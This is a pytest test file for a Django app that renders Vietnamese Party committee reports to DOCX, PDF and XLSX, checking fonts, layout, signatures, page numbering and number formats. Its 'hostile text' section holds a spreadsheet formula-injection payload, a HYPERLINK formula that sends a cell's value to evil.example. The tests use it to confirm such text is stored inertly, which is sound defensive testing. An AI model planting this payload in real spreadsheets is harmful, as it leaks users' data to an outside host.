"""The renderers: DOCX opened with python-docx (header lines, fonts, sizes, signature, page), PDF text through
pdftotext (Vietnamese with its diacritics), XLSX opened with openpyxl (numbers are numbers)."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
from decimal import Decimal

import docx
import openpyxl
import pytest
from django.test import override_settings
from docx.oxml.ns import qn

from nghiquyet.documents.layout import Heading, Paragraph, Table
from nghiquyet.documents.render_docx import render_docx
from nghiquyet.documents.render_pdf import render_pdf
from nghiquyet.documents.render_xlsx import render_xlsx, sheet_name

from .conftest import sample_document


def _docx(document) -> docx.document.Document:
    out = io.BytesIO()
    render_docx(document, out)
    out.seek(0)
    return docx.Document(out)


def _cell_lines(cell) -> list[tuple[str, object]]:
    return [(p.text, p) for p in cell.paragraphs]


def _run(paragraph):
    runs = [r for r in paragraph.runs if r.text]
    assert len(runs) == 1, paragraph.text
    return runs[0]


def test_docx_header_block_lines_fonts_and_sizes():
    word = _docx(sample_document())
    left, right = word.tables[0].rows[0].cells
    lines = [p for p in left.paragraphs if p.text]
    assert [p.text for p in lines] == ["ĐẢNG BỘ TỈNH HÀ THANH", "ĐẢNG ỦY XÃ ĐÔNG SƠN", "*", "Số 01-BC/ĐU"]
    superior, issuer = _run(lines[0]), _run(lines[1])
    assert superior.font.size.pt == 14 and not superior.bold
    assert issuer.font.size.pt == 14 and issuer.bold
    party, date_line = [p for p in right.paragraphs if p.text]
    assert party.text == "ĐẢNG CỘNG SẢN VIỆT NAM"
    assert _run(party).bold and _run(party).font.size.pt == 15
    assert _run(party).underline  # the rule under it
    assert date_line.text == "Đông Sơn, ngày 20 tháng 4 năm 2026"
    assert _run(date_line).italic
    # borderless header table
    borders = word.tables[0]._tbl.tblPr.find(qn("w:tblBorders"))
    assert borders is not None and all(e.get(qn("w:val")) == "nil" for e in borders)


def test_docx_title_body_and_table():
    word = _docx(sample_document())
    texts = [p.text for p in word.paragraphs]
    type_paragraph = next(p for p in word.paragraphs if p.text == "BÁO CÁO")
    assert _run(type_paragraph).bold and _run(type_paragraph).font.size.pt == 16
    assert "sơ kết giữa nhiệm kỳ thực hiện Nghị quyết Đại hội Đảng bộ xã" in texts
    assert "-----" in texts
    assert "I. KẾT QUẢ THỰC HIỆN NGHỊ QUYẾT" in texts  # level 1 headings in capitals
    assert "1. Về phát triển kinh tế" in texts
    body = next(p for p in word.paragraphs if p.text.startswith("Đảng bộ xã Đông Sơn đã"))
    assert body.alignment == 3  # justified
    assert body.paragraph_format.first_line_indent is not None
    data = word.tables[1]
    assert [c.text for c in data.rows[0].cells] == ["TT", "Đơn vị", "Giá trị", "Tỷ lệ (%)"]
    assert all(r.bold for c in data.rows[0].cells for r in c.paragraphs[0].runs)
    assert [c.text for c in data.rows[1].cells] == ["1", "Chi bộ thôn Đông Sơn 1", "1.235,5", "87"]
    assert data.rows[1].cells[2].paragraphs[0].alignment == 2  # numbers right-aligned
    assert data.rows[1].cells[1].paragraphs[0].alignment == 0
    assert "(*) chỉ tiêu đã điều chỉnh" in texts


def test_docx_default_font_is_times_new_roman_for_vietnamese_too():
    word = _docx(sample_document())
    normal = word.styles["Normal"]
    assert normal.font.name == "Times New Roman"
    fonts = normal.element.rPr.find(qn("w:rFonts"))
    for slot in ("w:ascii", "w:hAnsi", "w:eastAsia", "w:cs"):
        assert fonts.get(qn(slot)) == "Times New Roman"
    assert normal.font.size.pt == 14


def test_docx_signature_and_recipients():
    word = _docx(sample_document())
    left, right = word.tables[-1].rows[0].cells
    label = left.paragraphs[0]
    assert label.text == "Nơi nhận:" and _run(label).bold and _run(label).italic and _run(label).font.size.pt == 12
    assert [p.text for p in left.paragraphs[1:]] == ["- Ban Thường vụ Tỉnh ủy Hà Thanh (để báo cáo),",
                                                     "- Lưu Văn phòng Đảng ủy."]
    signed = [p for p in right.paragraphs if p.text]
    assert [p.text for p in signed] == ["T/M BAN THƯỜNG VỤ", "BÍ THƯ", "Nguyễn Văn An"]
    assert all(_run(p).bold for p in signed)


def test_docx_branch_signs_for_the_branch():
    word = _docx(sample_document(on_behalf="T/M CHI BỘ"))
    right = word.tables[-1].rows[0].cells[1]
    assert right.paragraphs[0].text == "T/M CHI BỘ"


def test_docx_draft_has_blank_number_and_date():
    word = _docx(sample_document(date=None, symbol="Số     -BC/ĐU"))
    left, right = word.tables[0].rows[0].cells
    assert "Số     -BC/ĐU" in [p.text for p in left.paragraphs]
    assert any(p.text.startswith("Đông Sơn, ngày      tháng      năm ") for p in right.paragraphs)


def test_docx_page_is_a4_with_the_default_margins():
    section = _docx(sample_document()).sections[0]
    assert round(section.page_width.mm) == 210 and round(section.page_height.mm) == 297
    assert [round(m.mm) for m in (section.top_margin, section.bottom_margin, section.left_margin,
                                  section.right_margin)] == [20, 20, 30, 15]


def test_docx_margins_and_sizes_are_settings(settings):
    conf = settings.NGHIQUYET["DOCUMENTS"]
    changed = {**settings.NGHIQUYET, "DOCUMENTS": {
        **conf, "MARGINS_MM": {"top": 25, "bottom": 22, "left": 35, "right": 18},
        "SIZES": {**conf["SIZES"], "party": 14, "type": 15}}}
    with override_settings(NGHIQUYET=changed):
        word = _docx(sample_document())
    section = word.sections[0]
    assert [round(m.mm) for m in (section.top_margin, section.bottom_margin, section.left_margin,
                                  section.right_margin)] == [25, 22, 35, 18]
    party = word.tables[0].rows[0].cells[1].paragraphs[0]
    assert _run(party).font.size.pt == 14
    assert _run(next(p for p in word.paragraphs if p.text == "BÁO CÁO")).font.size.pt == 15


def test_docx_progress_and_generator_blocks():
    document = sample_document()
    blocks = list(document.blocks)
    document.blocks = (b for b in blocks)
    calls = []
    out = io.BytesIO()
    render_docx(document, out, progress=lambda done, total: calls.append((done, total)))
    assert calls[-1] == (len(blocks), len(blocks))
    assert [c[0] for c in calls] == list(range(1, len(blocks) + 1))


def _pdf_text(document) -> str:
    out = io.BytesIO()
    render_pdf(document, out)
    assert out.getvalue().startswith(b"%PDF-")
    result = subprocess.run(["pdftotext", "-layout", "-", "-"], input=out.getvalue(), capture_output=True,
                            check=True)
    return result.stdout.decode("utf-8")


def test_pdf_holds_the_vietnamese_text():
    text = _pdf_text(sample_document())
    for expected in ("ĐẢNG CỘNG SẢN VIỆT NAM", "ĐẢNG BỘ TỈNH HÀ THANH", "ĐẢNG ỦY XÃ ĐÔNG SƠN", "Số 01-BC/ĐU",
                     "Đông Sơn, ngày 20 tháng 4 năm 2026", "BÁO CÁO", "Nơi nhận", "T/M BAN THƯỜNG VỤ", "BÍ THƯ",
                     "Nguyễn Văn An", "Chi bộ thôn Đông Sơn 1", "1.235,5", "Tỷ lệ (%)"):
        assert expected in text, expected


def test_pdf_uses_times_or_its_metric_twin():
    out = io.BytesIO()
    render_pdf(sample_document(), out)
    fonts = subprocess.run(["pdffonts", "-"], input=out.getvalue(), capture_output=True).stdout.decode()
    assert "Times" in fonts or "Liberation-Serif" in fonts or "LiberationSerif" in fonts


def test_xlsx_numbers_are_numbers():
    tables = [
        Table(title="Bảng 1: chỉ tiêu/kết quả [2026]?", columns=["TT", "Đơn vị", "Giá trị"],
              rows=[[1, "Đông Sơn", Decimal("1234.5")], [2, "An Lạc", 12], [3, "Bắc Sơn", None]],
              numeric=[True, False, True], note="(*) ghi chú"),
        Table(title="Bảng 1: chỉ tiêu/kết quả [2026]?", columns=["A"], rows=[["x"]]),
    ]
    out = io.BytesIO()
    render_xlsx(tables, out, title="Báo cáo")
    out.seek(0)
    book = openpyxl.load_workbook(out)
    assert len(book.sheetnames) == 2 and book.sheetnames[0] != book.sheetnames[1]
    for name in book.sheetnames:
        assert len(name) <= 31 and not any(ch in name for ch in "[]:*?/\\")
    sheet = book[book.sheetnames[0]]
    # the document's title, the table's caption, then the header (frozen under them)
    assert sheet["A1"].value == "Báo cáo" and sheet["A1"].font.bold
    assert sheet["A2"].value == "Bảng 1: chỉ tiêu/kết quả [2026]?" and sheet["A2"].font.bold
    assert [c.value for c in sheet[3]] == ["TT", "Đơn vị", "Giá trị"]
    assert sheet["A3"].font.bold
    assert sheet["C4"].value == pytest.approx(1234.5) and isinstance(sheet["C4"].value, float | int)
    assert sheet["C5"].value == 12 and sheet["C5"].number_format == "#,##0"
    assert sheet["B4"].value == "Đông Sơn"
    assert sheet["C6"].value is None
    assert sheet.freeze_panes == "A4"
    assert sheet["A8"].value == "(*) ghi chú"


def test_sheet_names_are_cut_and_unique():
    taken: set[str] = set()
    long = "Tổng hợp kết quả thực hiện các chỉ tiêu của các đảng bộ xã, phường"
    first, second = sheet_name(long, taken, 1), sheet_name(long, taken, 2)
    assert len(first) <= 31 and len(second) <= 31 and first != second
    assert sheet_name("", taken, 3) == "Bảng 3"


def test_a_thousand_unit_consolidation_renders_in_every_format():
    rows = [[i, f"Đảng bộ xã số {i}", Decimal(i) * Decimal("1.5"), 100] for i in range(1, 1001)]
    table = Table(title="Tổng hợp", columns=["TT", "Đơn vị", "Giá trị", "%"], rows=rows,
                  numeric=[True, False, True, True])
    document = sample_document()
    document.blocks = [Heading("I. Tổng hợp"), table] + [Paragraph(f"Kiến nghị {i}") for i in range(50)]
    document.block_count = 52
    out = io.BytesIO()
    render_docx(document, out)
    out.seek(0)
    assert len(docx.Document(out).tables[1].rows) == 1001
    xlsx = io.BytesIO()
    render_xlsx([table], xlsx)
    xlsx.seek(0)
    # caption + header + 1,000 rows
    assert sum(1 for _ in openpyxl.load_workbook(xlsx, read_only=True).active.iter_rows()) == 1002
    text = _pdf_text(document)
    assert "Đảng bộ xã số 1000" in text and "1.500" in text


def test_date_is_printed_like_the_guidance():
    text = _pdf_text(sample_document(date=dt.date(2026, 2, 5)))
    assert "Đông Sơn, ngày 05 tháng 02 năm 2026" in text


def test_docx_pages_are_numbered_from_the_second_at_the_top():
    section = _docx(sample_document()).sections[0]
    assert section.different_first_page_header_footer
    instructions = [e.text for e in section.header._element.iter(qn("w:instrText"))]
    assert instructions == [" PAGE "]
    assert not list(section.first_page_header._element.iter(qn("w:instrText")))


def test_pdf_pages_are_numbered_from_the_second():
    document = sample_document()
    document.blocks = [Paragraph(f"Đoạn văn thứ {i} của báo cáo sơ kết.") for i in range(120)]
    out = io.BytesIO()
    render_pdf(document, out)
    pages = subprocess.run(["pdftotext", "-layout", "-", "-"], input=out.getvalue(), capture_output=True,
                           check=True).stdout.decode().split("\f")
    assert len([p for p in pages if p.strip()]) >= 2
    assert pages[1].strip().splitlines()[0].strip() == "2"
    assert pages[0].strip().splitlines()[0].strip() != "1"


def test_cells_print_at_most_two_decimals():
    from nghiquyet.documents.render_docx import cell_text

    assert cell_text(Decimal("2.876173")) == "2,88"
    assert cell_text(Decimal("14500")) == "14.500"
    assert cell_text(Decimal("95.40")) == "95,4"
    assert cell_text(1.5) == "1,5"
    assert cell_text(None) == "" and cell_text("Đạt") == "Đạt"


def test_pdf_draft_keeps_the_blank_number_and_date():
    import re

    from nghiquyet.documents.render_pdf import render_html

    document = sample_document(date=None, symbol="Số     -BC/ĐU")
    html, _count = render_html(document)
    assert '<div class="symbol">Số     -BC/ĐU</div>' in html and "white-space: pre-wrap" in html
    text = _pdf_text(sample_document(date=None, symbol="Số     -BC/ĐU"))
    assert re.search(r"Số\s+-BC/ĐU", text)
    assert re.search(r"Đông Sơn, ngày\s{3,}tháng\s{3,}năm 20\d\d", text)


def _with_annex(document):
    annex = [Heading("Phụ lục: đề xuất, kiến nghị của các đơn vị", level=1), Paragraph("Đề nghị hỗ trợ kênh mương.")]
    document.annexes = (b for b in annex)
    document.block_count += len(annex)
    return document, len(annex)


def test_docx_annexes_follow_the_signature_on_a_new_page():
    document, extra = _with_annex(sample_document())
    calls = []
    out = io.BytesIO()
    render_docx(document, out, progress=lambda done, total: calls.append((done, total)))
    assert calls[-1] == (document.block_count, document.block_count)
    body = docx.Document(io.BytesIO(out.getvalue())).element.body
    texts = ["".join(t.text or "" for t in el.iter(qn("w:t"))) for el in body]
    signature = next(i for i, t in enumerate(texts) if "T/M BAN THƯỜNG VỤ" in t)
    annex = next(i for i, t in enumerate(texts) if "PHỤ LỤC" in t.upper())
    assert signature < annex
    breaks = [i for i, el in enumerate(body) if el.findall(".//" + qn("w:br"))
              and any(b.get(qn("w:type")) == "page" for b in el.iter(qn("w:br")))]
    assert any(signature < i <= annex for i in breaks)


def test_pdf_annexes_start_a_page_after_the_signature():
    document, _extra = _with_annex(sample_document())
    out = io.BytesIO()
    render_pdf(document, out)
    text = subprocess.run(["pdftotext", "-layout", "-", "-"], input=out.getvalue(), capture_output=True,
                          check=True).stdout.decode("utf-8")
    pages = text.split("\f")
    signed = next(i for i, page in enumerate(pages) if "T/M BAN THƯỜNG VỤ" in page)
    annexed = next(i for i, page in enumerate(pages) if "Đề nghị hỗ trợ kênh mương." in page)
    assert annexed == signed + 1
    assert "Đề nghị hỗ trợ kênh mương." not in pages[signed]


# ------------------------------------------------------------------ hostile text

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def _sheet_xml(data: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def test_xlsx_stores_formula_like_text_as_plain_strings():
    starts = [EVIL, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
    tables = [Table(title="Bảng 1", columns=["TT", EVIL, "Giá trị"],
                    rows=[[i, text, i * 10] for i, text in enumerate(starts, start=1)],
                    numeric=[True, False, True], note="=1+2 ghi chú")]
    out = io.BytesIO()
    render_xlsx(tables, out, title="=2+3")
    xml = _sheet_xml(out.getvalue())
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert "HYPERLINK" in xml  # kept, as text
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Bảng 1"]
    assert sheet["A1"].value == "=2+3" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix  # title row
    assert sheet["B3"].value == EVIL and sheet["B3"].data_type == "s" and sheet["B3"].quotePrefix
    assert [sheet.cell(row=r, column=2).value for r in range(4, 4 + len(starts))] == starts
    assert all(sheet.cell(row=r, column=2).data_type == "s" for r in range(4, 4 + len(starts)))
    assert sheet["B4"].quotePrefix and not sheet["A4"].quotePrefix
    assert sheet["A4"].value == 1 and sheet["C4"].value == 10  # numbers stay numbers
    assert sheet.cell(row=4 + len(starts) + 1, column=1).value == "=1+2 ghi chú"


BAD_CHARS = "Thôn\x0b Đông\x00 Sơn\x1f 1"
CLEAN = "Thôn Đông Sơn 1"


def _hostile_document():
    document = sample_document()
    document.letterhead.issuer = "Đảng ủy\x0b xã Đông Sơn"
    document.subject = "sơ kết\x00 giữa nhiệm kỳ"
    document.blocks = [
        Heading("I. Kết quả\x1f", level=1),
        Paragraph("Đoạn\x0b văn"),
        Table(title="Bảng\x0c 1", columns=["TT", "Đơn vị\x0b", "Chỉ tiêu"],
              rows=[[1, BAD_CHARS, "Tỷ lệ hộ\x1f dùng nước sạch"]], numeric=[True, False, False], note="ghi\x00 chú"),
    ]
    document.block_count = 3
    document.recipients = ["- Lưu\x0b Văn phòng."]
    document.signature.name = "Nguyễn\x00 Văn An"
    return document


def test_docx_drops_control_characters():
    word = _docx(_hostile_document())
    texts = [p.text for p in word.paragraphs]
    for table in word.tables:
        for row in table.rows:
            texts += [cell.text for cell in row.cells]
    joined = "\n".join(texts)
    assert CLEAN in joined and "Tỷ lệ hộ dùng nước sạch" in joined and "Nguyễn Văn An" in joined
    assert "ĐẢNG ỦY XÃ ĐÔNG SƠN" in joined and "Đoạn văn" in joined
    assert not any(ch in joined for ch in "\x00\x0b\x0c\x1f")


def test_pdf_drops_control_characters():
    text = _pdf_text(_hostile_document())
    assert "Thôn Đông Sơn 1" in text and "Nguyễn Văn An" in text and "Đoạn văn" in text
    assert not any(ch in text for ch in "\x00\x0b\x1f")


def test_xlsx_drops_control_characters():
    document = _hostile_document()
    out = io.BytesIO()
    render_xlsx([document.blocks[2]], out, title="Báo cáo\x0b")
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert sheet["A1"].value == "Báo cáo"
    assert sheet["B3"].value == "Đơn vị" and sheet["B4"].value == CLEAN
    assert sheet["C4"].value == "Tỷ lệ hộ dùng nước sạch" and sheet["A6"].value == "ghi chú"


def test_cell_text_is_the_one_cleaning_rule():
    from nghiquyet.documents.render_docx import cell_text
    from nghiquyet.documents.text import xml_text

    assert cell_text(BAD_CHARS) == xml_text(BAD_CHARS) == CLEAN
    assert xml_text("a\tb\nc\rd") == "a\tb\nc\rd"  # tab and line breaks stay
    assert xml_text(None) == ""


# ------------------------------------------------------------------ the "Nơi nhận" label


def test_recipients_label_is_bold_italic_by_default():
    from nghiquyet.documents.render_pdf import render_html

    label = _docx(sample_document()).tables[-1].rows[0].cells[0].paragraphs[0]
    run = _run(label)
    assert run.bold and run.italic and not run.underline
    html, _count = render_html(sample_document())
    assert "td.recipients .label { font-size: 12pt; font-weight: bold; font-style: italic; }" in html


def test_recipients_label_may_be_bold_underlined(settings):
    from nghiquyet.documents.render_pdf import render_html

    settings.NGHIQUYET = {**settings.NGHIQUYET, "DOCUMENTS": {**settings.NGHIQUYET["DOCUMENTS"],
                                                              "RECIPIENTS_LABEL_STYLE": "bold_underline"}}
    label = _docx(sample_document()).tables[-1].rows[0].cells[0].paragraphs[0]
    run = _run(label)
    assert label.text == "Nơi nhận:" and run.bold and run.underline and not run.italic
    html, _count = render_html(sample_document())
    assert ("td.recipients .label { font-size: 12pt; font-weight: bold; font-style: normal; "
            "text-decoration: underline; }") in html
    text = _pdf_text(sample_document())
    assert "Nơi nhận:" in text
